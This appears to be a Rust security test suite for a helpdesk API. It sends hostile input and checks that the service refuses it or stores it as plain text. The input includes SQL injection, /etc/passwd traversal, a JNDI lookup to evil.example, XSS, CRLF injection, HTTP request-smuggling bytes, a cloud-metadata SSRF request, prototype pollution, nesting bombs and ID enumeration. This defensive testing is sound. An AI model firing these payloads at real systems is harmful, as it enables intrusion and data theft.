//! Attacks by odd input: injection, enumeration, bytes that are no HTTP, numbers at the edge. Everything is answered or cut, and
//! the desk is as well afterwards as before.

use serde_json::{Value, json};
use tokio_tungstenite::tungstenite::Message;

use crate::attack_edge::exchange;
use crate::support::{ADMIN, TestApp, send};

/// X56: no value in any place of a request ends in a 5xx, or is taken for more than text.
#[actix_web::test]
async fn x56_odd_values_are_text_and_nothing_more() {
    let app = TestApp::start().await;
    let id = app.ticket("One", json!({})).await["id"].as_u64().unwrap();
    let long = "a".repeat(3_000);
    let odd = [
        "'; DROP TABLE tickets; --",
        "\" OR \"\"=\"",
        "../../../etc/passwd",
        "..%2f..%2f..%2fetc%2fpasswd",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "<script>alert(1)</script>",
        "%00",
        "%0d%0aset-cookie:%20a=b",
        "%ff%fe",
        "-1",
        "18446744073709551615",
        "18446744073709551616",
        "9223372036854775808",
        "1e308",
        "NaN",
        "null",
        "[]",
        "{}",
        "*:*",
        "subject:(a OR b)^99",
        "\"unclosed",
        "a*b*c*",
        "((((((((((",
        "~~~~",
        "\u{202e}\u{0}",
        &long,
    ];
    for value in odd {
        let encoded: String = url_encode(value);
        for path in [
            format!("/api/v1/tickets?q={encoded}"),
            format!("/api/v1/tickets?sort={encoded}"),
            format!("/api/v1/tickets?page[after]={encoded}"),
            format!("/api/v1/tickets?page[size]={encoded}"),
            format!("/api/v1/tickets?status={encoded}&team={encoded}&requester={encoded}&tag={encoded}"),
            format!("/api/v1/tickets?{encoded}={encoded}"),
            format!("/api/v1/tickets/{encoded}"),
            format!("/api/v1/tickets/{encoded}/events"),
            format!("/api/v1/tickets/{id}?include={encoded}"),
            format!("/api/v1/snapshot?at={encoded}"),
            format!("/api/v1/snapshot?topics={encoded}"),
            format!("/api/v1/events?after={encoded}&epoch={encoded}"),
            format!("/api/v1/events?topics=ticket:{encoded}&wait=0"),
            format!("/api/v1/sessions?user={encoded}"),
            format!("/api/v1/audit?who={encoded}&page[after]={encoded}"),
            format!("/assets/{encoded}"),
            format!("/{encoded}"),
        ] {
            let reply = send(app.request("GET", &path)).await;
            assert!(reply.status < 500, "{path}: {} {}", reply.status, reply.text);
            assert!(!reply.text.contains("root:x:0") && reply.header("set-cookie").is_empty(), "{path}");
        }
        let text: String = value.chars().take(250).collect();
        let body = json!({
            "subject": text, "body": text, "requester": {"name": text, "email": "n@example.org"},
            "custom": {text.clone(): text}, "tags": [text],
        });
        let (status, made) = app.call("POST", "/api/v1/tickets", body).await;
        assert!([201, 422].contains(&status), "{value:?}: {made}");
        if status == 201 {
            let kept = app.get(&format!("/api/v1/tickets/{}?include=messages", made["id"])).await;
            assert_eq!(kept["messages"][0]["body"], json!(text), "it is kept as it was written");
        }
    }
    well(&app).await;
    app.stop().await;
}

/// X56: bodies that are no JSON, or too much of it, are refused, not suffered.
#[actix_web::test]
async fn x56_odd_bodies_are_refused() {
    let app = TestApp::start().await;
    let deep = |open: &str, close: &str, times: usize| format!("{}{}", open.repeat(times), close.repeat(times));
    for body in [
        String::new(),
        "null".into(),
        "[]".into(),
        "\"x\"".into(),
        "{".into(),
        "{\"subject\":".into(),
        "{\"subject\":\"\\ud800\"}".into(),
        "{\"subject\":1e999}".into(),
        "\u{feff}{}".into(),
        deep("[", "]", 100_000),
        deep("{\"a\":", "}", 50_000),
        format!("{{\"custom\":{}}}", deep("{\"a\":", "}", 120)),
        format!("{{\"tags\":[{}]}}", vec!["\"x\""; 100_000].join(",")),
        format!("{{{}}}", (0..50_000).map(|n| format!("\"k{n}\":1")).collect::<Vec<_>>().join(",")),
        "{\"subject\":\"a\",\"subject\":\"b\"}".into(),
        "{\"__proto__\":{\"role\":\"admin\"}}".into(),
        "{\"constructor\":{}}".into(),
        "{\"id\":1,\"version\":9,\"assignee\":\"usr_x\"}".into(),
    ] {
        for (method, path) in [
            ("POST", "/api/v1/tickets"),
            ("PATCH", "/api/v1/tickets/1"),
            ("POST", "/api/v1/tickets/bulk"),
            ("POST", "/api/v1/users"),
            ("POST", "/api/v1/session"),
            ("POST", "/api/v1/tickets/1/messages"),
        ] {
            let request = app.request(method, path).header("content-type", "application/json").body(body.clone());
            let reply = send(request).await;
            assert!((400..500).contains(&reply.status), "{method} {path}: {} for {:.60}", reply.status, body);
        }
    }
    // Nobody is given more than they ask for by a field too many.
    let (_, agent) = app.user("agent", "agent").await;
    let extra =
        json!({"subject": "s", "body": "b", "requester": {"name": "n", "email": "n@example.org"}, "role": "admin"});
    assert_eq!(app.call_as(&agent, "POST", "/api/v1/tickets", extra).await.1["code"], "unknown_field");
    well(&app).await;
    app.stop().await;
}

/// X56: bytes that are hardly HTTP, or mean two things to two servers, are refused or cut.
#[actix_web::test]
async fn x56_odd_bytes_are_answered_or_cut() {
    let app = TestApp::with(|config| {
        config.limits.head_timeout_ms = 500;
        config.limits.keep_alive_ms = 500;
    })
    .await;
    let auth = format!("authorization: Bearer {ADMIN}\r\n");
    let smuggled = "GET /api/v1/users HTTP/1.1\r\nhost: desk\r\n\r\n";
    let many = (0..2_000).map(|n| format!("x-{n}: y\r\n")).collect::<String>();
    for (name, bytes) in [
        (
            "both lengths",
            format!(
                "POST /api/v1/me HTTP/1.1\r\nhost: d\r\n{auth}content-length: 4\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n{smuggled}"
            ),
        ),
        (
            "two lengths",
            format!("POST /api/v1/me HTTP/1.1\r\nhost: d\r\ncontent-length: 0\r\ncontent-length: 44\r\n\r\n{smuggled}"),
        ),
        (
            "a length with a sign",
            format!("POST /api/v1/me HTTP/1.1\r\nhost: d\r\ncontent-length: +4\r\n\r\nabcd{smuggled}"),
        ),
        (
            "a coding in disguise",
            format!("POST /api/v1/me HTTP/1.1\r\nhost: d\r\ntransfer-encoding: xchunked\r\n\r\n0\r\n\r\n{smuggled}"),
        ),
        ("a bad chunk", "POST /api/v1/me HTTP/1.1\r\nhost: d\r\ntransfer-encoding: chunked\r\n\r\nzz\r\n".to_owned()),
        (
            "an endless chunk",
            "POST /api/v1/me HTTP/1.1\r\nhost: d\r\ntransfer-encoding: chunked\r\n\r\nffffffffffffffff\r\nx".to_owned(),
        ),
        ("a folded header", "GET /api/v1/me HTTP/1.1\r\nhost: d\r\n x: y\r\n\r\n".to_owned()),
        ("a bare line end", "GET /api/v1/me HTTP/1.1\nhost: d\n\n".to_owned()),
        ("a header with a zero", "GET /api/v1/me HTTP/1.1\r\nhost: d\r\nx: a\0b\r\n\r\n".to_owned()),
        ("too many headers", format!("GET /api/v1/me HTTP/1.1\r\nhost: d\r\n{many}\r\n")),
        ("a huge header", format!("GET /api/v1/me HTTP/1.1\r\nhost: d\r\nx: {}\r\n\r\n", "y".repeat(400_000))),
        ("a huge address", format!("GET /{} HTTP/1.1\r\nhost: d\r\n\r\n", "a".repeat(200_000))),
        ("no HTTP at all", "\x16\x03\x01\x02\x00\x01\x00\x01\x7c\x03\x03".to_owned()),
        ("another version", "GET / HTTP/9.9\r\n\r\n".to_owned()),
        ("an odd method", "G\u{e9}T / HTTP/1.1\r\nhost: d\r\n\r\n".to_owned()),
        ("a tunnel", "CONNECT evil.example:443 HTTP/1.1\r\nhost: evil.example\r\n\r\n".to_owned()),
        (
            "an address elsewhere",
            "GET http://169.254.169.254/latest HTTP/1.1\r\nhost: 169.254.169.254\r\nconnection: close\r\n\r\n"
                .to_owned(),
        ),
        (
            "a half handshake",
            format!(
                "GET /api/v1/ws HTTP/1.1\r\nhost: d\r\n{auth}upgrade: websocket\r\nconnection: upgrade, close\r\n\r\n"
            ),
        ),
    ] {
        let answer = exchange(&app, bytes.as_bytes()).await;
        assert!(!answer.starts_with("HTTP/1.1 5"), "{name}: {answer:.200}");
        assert!(!answer.contains("\"email\""), "{name}: a hidden request was answered: {answer:.400}");
    }
    well(&app).await;
    app.stop().await;
}

/// X56: a socket that is talked to in odd ways answers or closes, and its neighbours do not notice.
#[actix_web::test]
async fn x56_odd_messages_end_nobody_elses_stream() {
    let app = TestApp::start().await;
    let mut neighbour = app.live_peer(ADMIN, &["board"]).await;
    let hello = json!({"t": "hello", "v": 1, "client": "c", "topics": ["board"]}).to_string();
    let deep = format!("{{\"t\":\"cmd\",\"id\":\"1\",\"do\":{}1{}}}", "[".repeat(5_000), "]".repeat(5_000));
    let topics = json!({"t": "sub", "topics": (1..400).map(|n| format!("ticket:{n}")).collect::<Vec<_>>()}).to_string();
    for line in [
        "{}",
        "[]",
        "null",
        "{\"t\":1}",
        "{\"t\":\"rec\"}",
        "{\"t\":\"cmd\"}",
        "{\"t\":\"cmd\",\"id\":\"\",\"do\":{\"type\":\"claim\"},\"ticket\":1}",
        "{\"t\":\"cmd\",\"id\":\"1\",\"ticket\":-1,\"do\":{\"type\":\"claim\"}}",
        "{\"t\":\"cmd\",\"id\":\"1\",\"ticket\":18446744073709551615,\"do\":{\"type\":\"claim\"}}",
        "{\"t\":\"cmd\",\"id\":\"1\",\"do\":{\"type\":\"system\"}}",
        "{\"t\":\"cmd\",\"id\":\"1\",\"do\":{\"type\":\"update\",\"sla\":{}},\"ticket\":1}",
        "{\"t\":\"sub\",\"topics\":[\"ticket:99999999999999999999\"]}",
        "{\"t\":\"sub\",\"topics\":[\"*\"],\"after\":0}",
        "{\"t\":\"presence\",\"ticket\":0,\"state\":\"admin\"}",
        "{\"t\":\"hello\",\"v\":1,\"client\":\"\",\"after\":18446744073709551615}",
        &deep,
        &topics,
    ] {
        let mut peer = app.peer(ADMIN).await;
        peer.send_raw(Message::text(hello.clone())).await;
        peer.expect("welcome").await;
        peer.send_raw(Message::text(line.to_owned())).await;
        let answer = peer.find_or_close().await;
        assert!(["err", "close"].contains(&answer["t"].as_str().unwrap()), "{line:.80}: {answer}");
        assert_ne!(answer["code"], "internal", "{line:.80}");
    }
    let mut flood = app.peer(ADMIN).await;
    flood.send_raw(Message::binary(vec![0_u8; 1000])).await;
    assert_eq!(flood.find(|line| line["t"] == "close").await["code"], 4009);
    let id = app.ticket("Still here", json!({})).await["id"].clone();
    assert_eq!(neighbour.expect("rec").await["ticket"], id);
    well(&app).await;
    app.stop().await;
}

/// X35, X14: nothing is learnt by counting through: ids of users, tokens and sessions are not in a row, and what is another's
/// is answered like what is not there.
#[actix_web::test]
async fn x35_counting_through_teaches_nothing() {
    let app = TestApp::start().await;
    let (victim_id, victim) = app.user("victim", "agent").await;
    let (_, attacker) = app.user("attacker", "agent").await;
    let (_, own) = app.call_as(&victim, "POST", "/api/v1/tokens", json!({"name": "mine"})).await;
    let token = own["id"].as_str().unwrap();
    let ask = async |method: &str, path: &str| app.call_as(&attacker, method, path, Value::Null).await;
    for (there, nowhere) in [
        (format!("/api/v1/tokens/{token}"), "/api/v1/tokens/tok_0000000000000000".to_owned()),
        (format!("/api/v1/users/{victim_id}"), "/api/v1/users/usr_0000000000000000".to_owned()),
        ("/api/v1/invitations/inv_1".to_owned(), "/api/v1/invitations/inv_2".to_owned()),
    ] {
        let method = if there.contains("users") { "PATCH" } else { "DELETE" };
        assert_eq!(ask(method, &there).await, ask(method, &nowhere).await, "{there}");
    }
    assert_eq!(app.call_as(&victim, "GET", "/api/v1/me", Value::Null).await.0, 200, "nothing was revoked");
    let listed = ask("GET", "/api/v1/tokens").await.1.to_string();
    assert!(!listed.contains(token) && !listed.contains("mine"), "{listed}");
    let made = json!({"user": victim_id, "name": "as the victim"});
    assert_eq!(app.call_as(&attacker, "POST", "/api/v1/tokens", made).await.1["code"], "forbidden");
    for path in
        ["/api/v1/tickets/0", "/api/v1/tickets/-1", "/api/v1/tickets/1.0", "/api/v1/tickets/1%20", "/api/v1/tickets/０"]
    {
        assert_eq!(ask("GET", path).await.0, 404, "{path}");
    }
    // What colleagues see of each other is no address and no password.
    let people = ask("GET", "/api/v1/people").await.1.to_string();
    assert!(!people.contains("@example.org") && !people.contains("argon2"), "{people}");
    app.stop().await;
}

/// X80: who calls himself what he is not is shown as what he wrote without the tricks.
#[actix_web::test]
async fn x80_names_play_no_tricks() {
    let app = TestApp::start().await;
    let body = json!({"email": "a@example.org", "name": "Ann\u{202e}nimda\u{200b}", "role": "agent"});
    assert_eq!(app.call("POST", "/api/v1/users", body).await.1["name"], "Annnimda");
    for (email, name) in [("b\u{200b}@example.org", "B"), ("c@example.org", "\u{200b}"), ("d@exa\u{202e}mple.org", "D")]
    {
        let body = json!({"email": email, "name": name, "role": "agent"});
        assert_eq!(app.call("POST", "/api/v1/users", body).await.0, 422, "{email:?} {name:?}");
    }
    let ticket = json!({"subject": "s", "body": "b\u{202e}", "requester": {"name": "A\u{202e}B\u{200b}", "email": "r@example.org"}});
    let (status, made) = app.call("POST", "/api/v1/tickets", ticket).await;
    assert_eq!((status, &made["requester"]["name"]), (201, &json!("AB")), "{made}");
    app.stop().await;
}

/// The desk is as well as before.
async fn well(app: &TestApp) {
    assert_eq!(send(app.anonymous("GET", "/healthz/ready")).await.status, 200);
    let id = app.ticket("Well", json!({})).await["id"].clone();
    assert_eq!(app.get(&format!("/api/v1/tickets/{id}")).await["subject"], "Well");
    let mut peer = app.live_peer(ADMIN, &["board"]).await;
    peer.send(json!({"t": "sub", "topics": ["mine"]})).await;
    peer.expect("upto").await;
}

fn url_encode(text: &str) -> String {
    if text.contains('%') {
        return text.to_owned();
    }
    text.bytes()
        .map(|byte| if byte.is_ascii_alphanumeric() { char::from(byte).to_string() } else { format!("%{byte:02X}") })
        .collect()
}
